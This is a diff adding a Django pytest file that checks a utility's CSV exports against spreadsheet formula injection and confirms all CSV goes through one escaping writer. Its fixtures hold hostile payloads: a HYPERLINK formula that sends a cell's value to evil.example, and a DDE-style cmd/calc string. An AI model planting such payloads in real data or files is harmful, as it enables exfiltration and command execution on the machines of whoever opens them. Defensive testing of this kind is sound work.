@@ -1,0 +1,144 @@
+"""CSV formula injection: every CSV Custodian writes (the marketing audience, the decrypted vendor mailing
+export, the portal's download, the website statistics, Green Button CSV) shows a hostile value as text, and
+keeps numbers numbers. No module writes CSV except through custodian.csvfile."""
+
+import csv
+import io
+import re
+import subprocess
+
+import pytest
+from django.core.management import call_command
+from django.test import Client
+
+from conftest import PAPER_FORM, application_for
+from custodian.csvfile import FORMULA_STARTS, csv_writer
+from custodian.customers.services import customer_enrol
+from custodian.disclosures.exports import export_dir
+from custodian.disclosures.models import VendorExport
+from custodian.testing import PROJECT_ROOT, vendor_with_determination
+from custodian.vault.export_crypto import read_export
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+HOSTILE = {
+    "name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "email": "=1+1@example.org",
+    "phone": "+1 (507) 555-0199",
+    "mailing_address": HYPERLINK,
+    "service_address": "\t=2+5, Owatonna, MN 55060",
+}
+
+
+@pytest.fixture
+def hostile_customer(db):
+    """A customer whose own values are spreadsheet formulas (each one a valid value for its field)."""
+    app = application_for(HOSTILE["name"], HOSTILE["email"], HOSTILE["phone"], "0010000666")
+    app.personal.update(
+        mailing_address=HOSTILE["mailing_address"], service_address=HOSTILE["service_address"]
+    )
+    return customer_enrol(application=app, submission=PAPER_FORM)
+
+
+def cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text)) for c in row]
+
+
+def assert_no_formula(text: str, where: str):
+    dangerous = [c for c in cells(text) if c.startswith(FORMULA_STARTS)]
+    assert not dangerous, f"{where}: cells a spreadsheet would run: {dangerous}"
+
+
+def test_the_writer_quotes_formulas_and_keeps_numbers():
+    out = io.StringIO()
+    csv_writer(out).writerow(["=1+1", "-2+3", "+x", "@x", "\tx", "\rx", "plain", -1.5, 42, None, True])
+    assert cells(out.getvalue()) == [
+        "'=1+1",
+        "'-2+3",
+        "'+x",
+        "'@x",
+        "'\tx",
+        "'\rx",
+        "plain",
+        "-1.5",
+        "42",
+        "",
+        "True",
+    ]
+
+
+def test_the_marketing_audience_csv(hostile_customer, marketer, console):
+    response = console(marketer).post(
+        "/staff/marketing/", {"customer_class": "", "service": "", "zip_code": ""}
+    )
+    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
+    text = response.content.decode()
+    assert_no_formula(text, "audience.csv")
+    assert "'" + HYPERLINK in cells(text) and "'=1+1@example.org" in cells(text)
+
+
+def test_the_decrypted_mailing_export(hostile_customer, privacy_officer):
+    vendor, private_key = vendor_with_determination(function="mailing", officer=privacy_officer)
+    call_command("vendor_export", "--vendor", str(vendor.pk), stdout=io.StringIO(), stderr=io.StringIO())
+    export = VendorExport.objects.get(vendor=vendor)
+    text = b"".join(
+        read_export(
+            export_dir() / export.file_name,
+            export_id=str(export.pk),
+            sealed_key=export.sealed_key,
+            vendor_private_key=private_key,
+        )
+    ).decode()
+    assert_no_formula(text, "mailing export")
+    assert "'" + HYPERLINK in cells(text)
+
+
+def test_the_portal_download(hostile_customer):
+    from django.contrib.auth import get_user_model
+    from django.utils import timezone
+
+    from custodian.portal.models import PortalAccount
+
+    user = get_user_model().objects.create_user(username="c-hostile", password="x" * 20)
+    PortalAccount.objects.create(user=user, customer=hostile_customer, confirmed_at=timezone.now())
+    client = Client()
+    client.force_login(user)
+    text = client.get("/portal/me/download.csv").content.decode()
+    assert_no_formula(text, "download.csv")
+    assert "'" + HYPERLINK in cells(text)
+
+
+def test_the_website_statistics_csv(db, web_editor, console):
+    Client().get(
+        "/", HTTP_REFERER="http://-2+3.evil.example/page", HTTP_USER_AGENT="Mozilla/5.0 (X11; Linux)"
+    )
+    from django.utils import timezone
+
+    today = timezone.localdate().isoformat()
+    response = console(web_editor).get("/staff/web/", {"format": "csv", "since": today, "until": today})
+    assert response.status_code == 200
+    text = response.content.decode()
+    assert "'-2+3.evil.example" in cells(text)
+    assert_no_formula(text, "website statistics")
+
+
+def test_green_button_csv_keeps_negative_readings_numbers():
+    from custodian.usage.greenbutton_export import UsagePointExport, green_button_csv
+
+    point = UsagePointExport(
+        key="1", title="electric", service="electric", unit="kWh", readings=[(1_700_000_000, 3600, -1.5)]
+    )
+    text = green_button_csv([point])
+    row = next(r for r in csv.reader(io.StringIO(text)) if r and r[0] == "electric usage")
+    assert row[4] == "-1.5"
+
+
+def test_no_module_writes_csv_except_through_the_one_writer():
+    """The class of the mistake: a new CSV writer that forgets to neutralise cells."""
+    found = subprocess.run(  # noqa: S603
+        ["git", "grep", "-nE", r"csv\.(writer|DictWriter)\(|from csv import .*[Ww]riter", "--", "custodian"],
+        cwd=PROJECT_ROOT,
+        capture_output=True,
+        text=True,
+    ).stdout.splitlines()
+    offenders = [line for line in found if not re.match(r"custodian/(csvfile\.py|.*/tests/)", line)]
+    assert not offenders, f"write CSV with custodian.csvfile.csv_writer: {offenders}"
